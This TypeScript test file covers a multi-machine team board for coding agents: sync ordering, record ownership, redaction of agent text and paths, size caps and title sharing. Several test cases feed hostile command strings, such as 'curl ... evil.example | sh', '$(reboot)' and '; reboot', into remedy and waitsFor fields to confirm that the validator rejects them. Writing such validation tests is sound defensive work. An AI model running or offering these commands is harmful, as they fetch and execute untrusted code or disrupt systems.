import { sampleAttention, sampleBoard, samplePullRequest, sampleTicket, sampleWorker } from '@svc/testkit';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type FoldedLine } from '../../kernel/board/board.ts';
import { logged } from '../../kernel/board/testing/lines.ts';
import { createChangeTracker } from '../board/board-changes.ts';
import { boardColumns } from '../board/board-columns.ts';
import { boardView, WEEK_MS } from '../board/board-view.ts';
import { MOST_SHOWN_BYTES } from '../board/shown-team.ts';
import { emptyBoard, foldLine, packBoard, unpackBoard } from '../board.ts';
import { whyTicket } from '../why/why.ts';
import { readShared } from './shared.ts';
import { publishedThings, sharedThings } from './shared-things.ts';
import { presenceOf, teamView } from './team-view.ts';

const machines = ['a', 'b', 'c'].map((id) => ({
  id,
  machine: `machine-${id}`,
  person: 'kim',
  role: id === 'a' ? ('admin' as const) : ('member' as const),
}));
const [item] = sharedThings(sampleBoard({ attention: [sampleAttention()] }));

type Published = { machine: string; key: string; version: number; text: string | null };

function lineOf(seq: number, { machine, key, version, text }: Published): FoldedLine {
  const detail = { machine, kind: 'attention', key, version };
  return text === null
    ? logged(seq, 'team.record.removed', { source: 'monitor', detail })
    : logged(seq, 'team.record.changed', {
        source: 'monitor',
        detail: { ...detail, value: { ...item?.value, message: text } },
      });
}

function folded(records: readonly Published[]) {
  const board = emptyBoard();
  foldLine(board, logged(1, 'team.roster.changed', { source: 'monitor', detail: { machines } }));
  for (const [index, record] of records.entries()) foldLine(board, lineOf(index + 2, record));
  return board;
}

const shown = (board: ReturnType<typeof folded>) =>
  teamView(board, { self: 'none', presence: () => presenceOf(undefined, 0) }).machines;

/** What each machine publishes, in its order: each version is higher than the one before. */
const published = fc
  .array(
    fc.record({
      machine: fc.constantFrom('a', 'b', 'c'),
      key: fc.constantFrom('k1', 'k2'),
      text: fc.option(fc.constantFrom('one', 'two', 'three'), { nil: null }),
    }),
    { maxLength: 20 },
  )
  .map((changes) => changes.map((change, index) => ({ ...change, version: index + 1 })));

test('any order, duplication and loss with later repair gives the same board', () => {
  fc.assert(
    fc.property(
      published.chain((all) =>
        fc.tuple(fc.constant(all), fc.array(fc.constantFrom(...all, undefined), { maxLength: 60 })),
      ),
      ([all, arrived]) => {
        const newest = new Map(all.map((one) => [`${one.machine}/${one.key}`, one]));
        const some = arrived.filter((one) => one !== undefined);
        // The repair: the relay has the newest of each path.
        expect(shown(folded([...some, ...newest.values()]))).toEqual(shown(folded(all)));
        expect(shown(folded([...newest.values(), ...some]))).toEqual(shown(folded(all)));
      },
    ),
  );
});

test('records go with their machine, and nothing is taken from others', () => {
  const board = folded([
    { machine: 'a', key: 'k', version: 1, text: 'one' },
    { machine: 'b', key: 'k', version: 1, text: 'two' },
    { machine: 'stranger', key: 'k', version: 1, text: 'three' },
  ]);
  expect([...board.team.keys()]).toEqual(['a/attention/k', 'b/attention/k']);
  foldLine(board, { ...lineOf(9, { machine: 'a', key: 'k', version: 5, text: 'forged' }), source: 'cli' });
  expect(board.team.get('a/attention/k')).toMatchObject({ version: 1 });
  expect(unpackBoard(JSON.parse(JSON.stringify(packBoard(board))))).toEqual(board);
  const left = { machines: machines.filter(({ id }) => id !== 'b') };
  foldLine(board, logged(10, 'team.roster.changed', { source: 'monitor', detail: left }));
  expect([...board.team.keys()]).toEqual(['a/attention/k']);
});

test('what is shared has no text of an agent and no folder', () => {
  const secret = 'written by an agent in /home/kim/web';
  const worker = sampleWorker({
    process: { state: 'dead', since: '2026-01-02T09:00:00.000Z', seq: 1, stderr: secret },
    corrupt: { path: '/home/kim/svc/x.json', problem: secret, seq: 1, at: null },
    verification: {
      state: 'failed',
      sha: null,
      summary: secret,
      advisory: false,
      remediation: null,
      seq: 1,
      at: null,
    },
  });
  const things = sharedThings(
    sampleBoard({
      workers: [worker],
      attention: [
        sampleAttention({ id: '1', reason: 'worker-dead', message: secret, remedy: 'cd /home/kim/web' }),
        sampleAttention({ id: '2', reason: 'deploy-timeout', message: 'No deployment', reportedBy: 'svc' }),
        sampleAttention({
          id: '3',
          reason: 'deploy-odd',
          message: secret,
          reportedBy: 'helper',
          remedy: 'svc why written-by-an-agent',
        }),
        sampleAttention({
          id: '4',
          remedy:
            'Within a minute: svc agent answer claude/1 allow (or reject). Or answer it in /home/kim/web',
        }),
      ],
      sessions: [
        {
          key: 'claude/1',
          agent: 'claude',
          folder: '/home/kim/web',
          branch: 'main',
          state: 'running',
          known: 'hook',
          since: '2026-01-02T09:00:00.000Z',
          tool: null,
          reason: null,
          pid: 7,
          pidStartedAt: '1',
          open: [
            {
              request: 'r',
              kind: 'permission',
              title: secret,
              tool: secret,
              toolKind: 'execute',
              paths: ['/home/kim/web'],
              command: secret,
              options: [],
              fields: [],
            },
          ],
          lastSeq: 1,
          lastAt: '2026-01-02T09:00:00.000Z',
        },
      ],
    }),
  );
  expect(things.map(({ kind }) => kind)).toEqual([
    'attention',
    'attention',
    'attention',
    'attention',
    'worker',
    'session',
  ]);
  expect(JSON.stringify(things)).not.toMatch(/written.by|\/home/);
  expect(JSON.stringify(things)).toContain('No deployment');
  expect(things.flatMap(({ value: shared }) => ('remedy' in shared ? [shared.remedy] : []))).toEqual([
    null,
    'svc deploy retry ENG-1',
    null,
    'svc agent answer claude/1 allow (or reject)',
  ]);
  for (const { kind, value } of things) expect(readShared(kind, value)).toEqual({ kind, value });
  expect(readShared('worker', { ticket: 'ENG-1' })).toBeUndefined();
});

test('a machine that is not heard is silent, and unknown before it was heard', () => {
  expect(presenceOf(undefined, 0)).toEqual({ heardAt: null, presence: 'unknown', doubt: null });
  expect(presenceOf(1000, 71_000)).toMatchObject({ presence: 'here' });
  expect(presenceOf(1000, 71_000, { doubt: 'why' })).toMatchObject({ presence: 'incomplete', doubt: 'why' });
  const heardAt = '1970-01-01T00:00:01.000Z';
  expect(presenceOf(1000, 71_001)).toEqual({ heardAt, presence: 'silent', doubt: null });
});

/** The board of another machine of the team, after machine b has published the worker of a ticket. */
function withWorker(ticket: string, own: Parameters<typeof sampleBoard>[0] = {}) {
  const board = sampleBoard(own);
  board.seq = 100;
  const [shared] = sharedThings(sampleBoard({ workers: [sampleWorker({ ticket, key: `run-1/${ticket}` })] }));
  const detail = { machine: 'b', kind: 'worker', key: `run-1/${ticket}`, version: 1 };
  foldLine(board, logged(101, 'team.roster.changed', { source: 'monitor', detail: { machines } }));
  const value = { ...shared?.value };
  foldLine(board, logged(102, 'team.record.changed', { source: 'monitor', detail: { ...detail, value } }));
  return { board, detail, value };
}

test('why, of what another machine published: by whom, since when, and where the rest is', () => {
  const { board } = withWorker('ENG-7');
  const why = whyTicket(board, 'eng-7', 0);
  expect(why).toMatchObject({
    ticket: 'ENG-7',
    orchestrator: 'run-1',
    from: {
      id: 'b',
      machine: 'machine-b',
      person: 'kim',
      receivedAt: board.team.values().next().value?.lastAt,
    },
    unknown: [expect.stringContaining('on machine-b')],
  });
  expect(why?.facts.length).toBeGreaterThan(0);
  // The numbers of events are those of another log.
  for (const { seq, source } of why?.facts ?? []) expect([seq, source]).toEqual([null, 'claimed']);
  expect(whyTicket(board, 'ENG-7', 0, 'run-1', 'machine-b')?.from?.id).toBe('b');
  for (const [run, machine] of [
    ['run-9', undefined],
    [undefined, 'machine-a'],
    [undefined, 'nobody'],
  ] as const)
    expect(whyTicket(board, 'ENG-7', 0, run, machine)).toBeUndefined();
});

test('why, of a ticket that this machine works on too, unless the other machine is named', () => {
  const { board } = withWorker('ENG-1', { workers: [sampleWorker({ ticket: 'ENG-1' })] });
  expect(whyTicket(board, 'ENG-1', 0)).not.toHaveProperty('from');
  expect(whyTicket(board, 'ENG-1', 0, undefined, 'b')).toMatchObject({ from: { machine: 'machine-b' } });
});

test('what is received is a change of the board like any other, and left out of the board unless asked for', () => {
  const { board, detail } = withWorker('ENG-7');
  const tracker = createChangeTracker();
  expect(tracker.changes(board, undefined, WEEK_MS)).toMatchObject({
    full: true,
    members: [{ key: 'a' }, { key: 'b', machine: 'machine-b', person: 'kim' }, { key: 'c' }],
    team: [{ key: 'b/worker/run-1/ENG-7', machine: 'b', kind: 'worker', value: { ticket: 'ENG-7' } }],
  });
  const { seq } = board;
  foldLine(
    board,
    logged(103, 'team.record.removed', { source: 'monitor', detail: { ...detail, version: 2 } }),
  );
  expect(tracker.changes(board, seq, WEEK_MS)).toMatchObject({
    full: false,
    members: [],
    team: [{ value: null }],
  });
  expect(boardView(board)).toMatchObject({ members: [], team: [] });
});

test('one machine cannot make the board heavy: what is left out of its records is counted, and comes back', () => {
  const { board, value } = withWorker('ENG-7');
  const large = { ...value, contradictions: Array.from({ length: 20 }, () => 'x'.repeat(1_900)) };
  const change = (name: number, version: number, changed: object | null) => {
    const key = `run-1/ENG-${name}`;
    const record = { machine: 'b', kind: 'worker', key, version };
    const topic = changed === null ? 'team.record.removed' : 'team.record.changed';
    const given = changed === null ? record : { ...record, value: changed };
    foldLine(board, logged(board.seq + 1, topic, { source: 'monitor', detail: given }));
  };
  const tracker = createChangeTracker();
  const page = new Map(tracker.changes(board, undefined, WEEK_MS).team.map(({ key }) => [key, true]));
  const pull = (after: number) => {
    const changes = tracker.changes(board, after, WEEK_MS);
    for (const { key, value: read } of changes.team) page.set(key, read !== null);
    for (const key of changes.gone.team) page.delete(key);
    return changes.leftOut;
  };
  let after = board.seq;
  for (let name = 100; name < 200; name += 1) change(name, 1, large);
  foldLine(board, lineOf(board.seq + 1, { machine: 'b', key: 'stuck', version: 1, text: 'one' }));
  foldLine(board, lineOf(board.seq + 1, { machine: 'c', key: 'stuck', version: 1, text: 'one' }));

  const view = boardView(board, { team: true });
  expect(JSON.stringify(view).length).toBeLessThan(1.1 * MOST_SHOWN_BYTES);
  const [left] = view.leftOut;
  expect(left).toEqual({ machine: 'b', shown: view.team.length - 1, of: 102 });
  // What needs a person comes first, then the newest.
  const keys = view.team.map(({ key }) => key);
  expect(keys).toEqual(
    expect.arrayContaining(['b/attention/stuck', 'c/attention/stuck', 'b/worker/run-1/ENG-199']),
  );
  expect(keys).not.toContain('b/worker/run-1/ENG-100');
  const [, b, c] = shown(board);
  expect(b).toMatchObject({ leftOut: { shown: left?.shown, of: 102 }, attention: [{ key: 'stuck' }] });
  expect(c).toMatchObject({ leftOut: null, attention: [{ key: 'stuck' }] });

  expect(pull(after)).toEqual(view.leftOut);
  expect([...page.keys()].toSorted()).toEqual(keys.toSorted());
  after = board.seq;
  for (let name = 100; name < 190; name += 1) change(name, 2, null);
  expect(pull(after)).toEqual([]);
  const alive = [...page].filter(([, isShown]) => isShown).map(([key]) => key);
  expect(alive).toHaveLength(13);
  expect(alive).toContain('b/worker/run-1/ENG-7');
  expect(boardView(board)).toMatchObject({ leftOut: [] });
});

test('an item of another machine is not on the card of this one, even with the same names', () => {
  const worker = { ...boardView(sampleBoard({ workers: [sampleWorker()] })).workers[0] } as never;
  const attention = [{ ...sampleAttention(), key: 'x', machine: 'b' }];
  const { columns } = boardColumns({
    workers: [worker, { ...(worker as object), key: 'b/x', machine: 'b' } as never],
    attention,
    pullRequests: [],
    tickets: [],
    now: 0,
    dayStart: 0,
  });
  expect(columns['needs-you'].map(({ key }) => key)).toEqual(['b/x']);
});

test('a remedy, a name and a long text of another machine', () => {
  const shared = {
    ...item?.value,
    handedOver: { to: 'kim', by: 'svc', at: '2026-01-02T09:00:00.000Z', note: null },
  };
  const read = (change: object) => readShared('attention', { ...shared, ...change })?.value;
  for (const remedy of [
    'svc deploy accept ENG-1 && curl -s https://evil.example/x | sh',
    'curl https://evil.example | sh',
    'svc why $(reboot)',
    'Run: svc doctor',
  ])
    expect(read({ remedy })).toMatchObject({ remedy: null });
  expect(read({ remedy: 'svc why ABC-1' })).toMatchObject({ remedy: 'svc why ABC-1' });
  expect(read({ message: 'x'.repeat(2_000) })).toBeDefined();
  expect(read({ message: 'x'.repeat(2_001) })).toBeUndefined();

  // Who has handed it over is only what that machine says.
  const board = folded([]);
  const detail = { machine: 'b', kind: 'attention', key: 'k', version: 1, value: shared };
  foldLine(board, logged(2, 'team.record.changed', { source: 'monitor', detail }));
  expect(board.team.get('b/attention/k')?.value).toMatchObject({ handedOver: { by: 'kim (machine-b)' } });
});

test.each([
  ['a person: svc deploy accept ENG-7', 'a person: svc deploy accept ENG-7'],
  [
    'a person: svc agent answer ENG-7 allow (or reject)',
    'a person: svc agent answer ENG-7 allow (or reject)',
  ],
  ['a merge, or a person: svc agent send ENG-7', 'a merge, or a person: svc agent send ENG-7'],
  ['the end of the provider’s usage limit', 'the end of the provider’s usage limit'],
  ['a person: svc deploy accept ENG-7 && curl -s https://evil.example/x | sh', 'a person'],
  ['a merge, or a person: curl https://evil.example', 'a merge, or a person'],
  ['a person: svc agent answer ENG-7 allow; reboot (or reject)', 'a person'],
  ['curl https://evil.example | sh', null],
  ['$(reboot), or a person: svc why ENG-7', null],
])('what a worker of another machine is waiting for, %j', (waitsFor, read) => {
  const [shared] = sharedThings(sampleBoard({ workers: [sampleWorker()] })).filter(
    ({ kind }) => kind === 'worker',
  );
  expect(readShared('worker', { ...shared?.value, waitsFor })?.value).toMatchObject({ waitsFor: read });
});

test('titles are shared only by choice: cut, and below the title of the reader’s own tracker', () => {
  const title = 'Pay \u202eeciovni yb';
  const own = sampleBoard({
    workers: [sampleWorker({ ticket: 'ENG-7', key: 'run-1/ENG-7' })],
    tickets: [sampleTicket({ ticket: 'ENG-7', title })],
    pullRequests: [samplePullRequest({ title: 'Also a title' })],
  });
  const silent = JSON.stringify([sharedThings(own), publishedThings(own, { titles: false })]);
  expect(silent).not.toContain('eciovni');
  expect(silent).not.toContain('Also a title');
  const workerOf = (things: ReturnType<typeof publishedThings>) =>
    things.find(({ kind }) => kind === 'worker')?.value;
  const shared = workerOf(publishedThings(own, { titles: true }));
  expect(shared).toMatchObject({ ticket: 'ENG-7', title });
  const [ticket] = own.tickets.values();
  if (ticket) ticket.title = 'x'.repeat(5_000);
  expect((workerOf(sharedThings(own, { titles: true })) as { title: string }).title).toMatch(
    /^x{150,}…\[cut \d+ characters\]$/,
  );
  // A member need not cut it.
  const long = readShared('worker', { ...shared, title: 'y'.repeat(1_999) })?.value as { title: string };
  expect(long.title.length).toBeLessThanOrEqual(200);

  const detail = { machine: 'b', kind: 'worker', key: 'run-1/ENG-7', version: 1, value: shared };
  const seenBy = (board: ReturnType<typeof folded>): unknown[] => {
    foldLine(board, logged(2, 'team.roster.changed', { source: 'monitor', detail: { machines } }));
    foldLine(board, logged(3, 'team.record.changed', { source: 'monitor', detail }));
    const view = teamView(board, { self: 'a', presence: () => presenceOf(undefined, 0) });
    return view.machines.flatMap(({ workers }) => workers.map((worker) => worker.title));
  };
  expect(seenBy(folded([]))).toEqual([title]);
  const reader = sampleBoard({ tickets: [sampleTicket({ ticket: 'eng-7', title: 'Mine' })], workers: [] });
  reader.seq = 1;
  expect(seenBy(reader)).toEqual(['Mine']);
});

test.each([
  ['the same repository', 'Acme/Web', 'Mine'],
  ['another repository', 'acme/api', null],
  ['an unknown repository', null, null],
])('an issue of the reader’s tracker gives a worker of %s the title', (_what, repo, title) => {
  const url = 'https://codehost.example/acme/web/issues/1';
  const board = sampleBoard({
    tickets: [sampleTicket({ ticket: 'GH-1', title: 'Mine', url })],
    workers: [sampleWorker({ ticket: 'GH-1', key: 'run-9/GH-1', repo: 'acme/other' })],
  });
  board.seq = 1;
  const [theirs] = sharedThings(
    sampleBoard({ workers: [sampleWorker({ ticket: 'GH-1', key: 'run-1/GH-1', repo })], pullRequests: [] }),
  ).filter(({ kind }) => kind === 'worker');
  const detail = { machine: 'b', kind: 'worker', key: 'run-1/GH-1', version: 1, value: theirs?.value };
  foldLine(board, logged(2, 'team.roster.changed', { source: 'monitor', detail: { machines } }));
  foldLine(board, logged(3, 'team.record.changed', { source: 'monitor', detail }));
  const view = teamView(board, { self: 'a', presence: () => presenceOf(undefined, 0) });
  const titles = view.machines.map(({ id, workers }) => [id, workers.map((worker) => worker.title)]);
  expect(titles).toEqual([
    ['a', ['Mine']],
    ['b', [title]],
    ['c', []],
  ]);
});

test('what is shared is cut to texts that the others accept', () => {
  const things = sharedThings(
    sampleBoard({
      attention: [sampleAttention({ reason: 'deploy-x', message: 'x'.repeat(5_000), reportedBy: 'svc' })],
    }),
  );
  for (const { kind, value } of things) expect(readShared(kind, value)).toBeDefined();
});

test('an item that another member handed over stays with its owner until the person has it', () => {
  const board = sampleBoard({ attention: [] });
  const scope = { orchestrator: 'run-1', ticket: 'ABC-1' };
  const line = (seq: number, event: 'comms.attention' | 'comms.attention_handed_over', detail: object) =>
    foldLine(board, logged(seq, event, { scope, detail: { reason: 'stuck', ...detail } }));
  const given = () => board.attention.get('run-1/ABC-1/stuck')?.handedOver;
  line(board.seq + 1, 'comms.attention', { message: 'stuck' });
  line(board.seq + 1, 'comms.attention_handed_over', { to: 'mia', by: 'kim (two)', received: false });
  expect(given()).toMatchObject({ to: 'mia', pending: true });
  line(board.seq + 1, 'comms.attention_handed_over', { to: 'zoe', by: 'kim (two)', received: true });
  expect(given()).toMatchObject({ to: 'mia', pending: true });
  line(board.seq + 1, 'comms.attention_handed_over', { to: 'mia', by: 'kim (two)', received: true });
  expect(given()).not.toHaveProperty('pending');
  line(board.seq + 1, 'comms.attention_handed_over', { to: 'zoe', by: 'kim' });
  expect(given()).toMatchObject({ to: 'zoe', by: 'kim' });
  expect(given()).not.toHaveProperty('pending');
});
